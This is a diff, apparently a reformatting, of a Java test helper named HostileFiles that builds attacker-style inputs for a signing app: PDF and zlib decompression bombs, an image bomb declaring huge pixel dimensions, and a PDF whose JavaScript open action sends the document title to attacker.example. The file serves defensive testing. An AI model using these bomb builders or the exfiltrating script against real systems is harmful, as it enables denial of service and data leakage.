@@ -16,10 +16,10 @@ import org.apache.pdfbox.pdmodel.PDPage;
 import org.apache.pdfbox.pdmodel.PDPageContentStream;
 import org.apache.pdfbox.pdmodel.common.PDRectangle;
 import org.apache.pdfbox.pdmodel.common.PDStream;
-import org.apache.pdfbox.pdmodel.graphics.color.PDDeviceRGB;
-import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
 import org.apache.pdfbox.pdmodel.font.PDType1Font;
 import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
+import org.apache.pdfbox.pdmodel.graphics.color.PDDeviceRGB;
+import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
 
 /** The hostile files an attacker sends, made as the attacker makes them. */
@@ -27,8 +27,8 @@ final class HostileFiles {
   private HostileFiles() {}
 
   /**
-   * A PDF 1.5 of about 1.5 MB whose catalog sits in an object stream (FlateDecode) that inflates
-   * to {@code inflated} bytes: the catalog, then spaces. Every reader must inflate it to find the
+   * A PDF 1.5 of about 1.5 MB whose catalog sits in an object stream (FlateDecode) that inflates to
+   * {@code inflated} bytes: the catalog, then spaces. Every reader must inflate it to find the
    * catalog, so it hits whatever opens the document (verification, materials, signing requests).
    */
   static byte[] decompressionBomb(long inflated) {
@@ -44,8 +44,13 @@ final class HostileFiles {
     offsets[3] = pdf.size();
     ascii(pdf, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n");
     offsets[4] = pdf.size();
-    ascii(pdf, "4 0 obj\n<< /Type /ObjStm /N 1 /First " + header.length()
-        + " /Filter /FlateDecode /Length " + stream.length + " >>\nstream\n");
+    ascii(
+        pdf,
+        "4 0 obj\n<< /Type /ObjStm /N 1 /First "
+            + header.length()
+            + " /Filter /FlateDecode /Length "
+            + stream.length
+            + " >>\nstream\n");
     pdf.writeBytes(stream);
     ascii(pdf, "\nendstream\nendobj\n");
     offsets[5] = pdf.size();
@@ -61,8 +66,11 @@ final class HostileFiles {
     } catch (IOException e) {
       throw new UncheckedIOException(e);
     }
-    ascii(pdf, "5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length " + xref.size()
-        + " >>\nstream\n");
+    ascii(
+        pdf,
+        "5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length "
+            + xref.size()
+            + " >>\nstream\n");
     pdf.writeBytes(xref.toByteArray());
     ascii(pdf, "\nendstream\nendobj\nstartxref\n" + offsets[5] + "\n%%EOF\n");
     return pdf.toByteArray();
@@ -70,8 +78,8 @@ final class HostileFiles {
 
   /**
    * A zlib stream of {@code prefix} followed by spaces up to {@code total} bytes. Deflating 1.5 GB
-   * takes seconds, so one MiB of spaces is deflated once after a full flush (which makes each
-   * block independent of what came before) and its bytes repeated; the checksum is computed.
+   * takes seconds, so one MiB of spaces is deflated once after a full flush (which makes each block
+   * independent of what came before) and its bytes repeated; the checksum is computed.
    */
   private static byte[] zlibOfSpaces(byte[] prefix, long total) {
     int block = 1 << 20;
@@ -120,7 +128,8 @@ final class HostileFiles {
     return out.toByteArray();
   }
 
-  private static void entry(DataOutputStream out, int type, long field2, int field3) throws IOException {
+  private static void entry(DataOutputStream out, int type, long field2, int field3)
+      throws IOException {
     out.writeByte(type);
     out.writeInt((int) field2);
     out.writeShort(field3);
@@ -148,7 +157,8 @@ final class HostileFiles {
       h.writeByte(0);
       h.writeByte(0);
       h.writeByte(0);
-      try (DeflaterOutputStream z = new DeflaterOutputStream(idat, new Deflater(Deflater.BEST_COMPRESSION))) {
+      try (DeflaterOutputStream z =
+          new DeflaterOutputStream(idat, new Deflater(Deflater.BEST_COMPRESSION))) {
         z.write(new byte[(side * 3 + 1) * 4]);
       }
     } catch (IOException e) {
@@ -177,14 +187,15 @@ final class HostileFiles {
   }
 
   /**
-   * A one-page PDF showing an uncompressed image that declares {@code side}×{@code side} RGB
-   * pixels with three bytes of data: a renderer (the seal app's preview) allocates the raster.
+   * A one-page PDF showing an uncompressed image that declares {@code side}×{@code side} RGB pixels
+   * with three bytes of data: a renderer (the seal app's preview) allocates the raster.
    */
   static byte[] pdfWithImageBomb(int side) {
     try (PDDocument doc = new PDDocument()) {
       PDPage page = new PDPage(PDRectangle.A4);
       doc.addPage(page);
-      PDImageXObject image = new PDImageXObject(new PDStream(doc, new ByteArrayInputStream(new byte[3])), null);
+      PDImageXObject image =
+          new PDImageXObject(new PDStream(doc, new ByteArrayInputStream(new byte[3])), null);
       image.setWidth(side);
       image.setHeight(side);
       image.setBitsPerComponent(8);
@@ -213,7 +224,9 @@ final class HostileFiles {
         cs.endText();
       }
       doc.getDocumentCatalog()
-          .setOpenAction(new PDActionJavaScript("app.launchURL('https://attacker.example/?c=' + this.info.Title);"));
+          .setOpenAction(
+              new PDActionJavaScript(
+                  "app.launchURL('https://attacker.example/?c=' + this.info.Title);"));
       ByteArrayOutputStream out = new ByteArrayOutputStream();
       doc.save(out);
       return out.toByteArray();
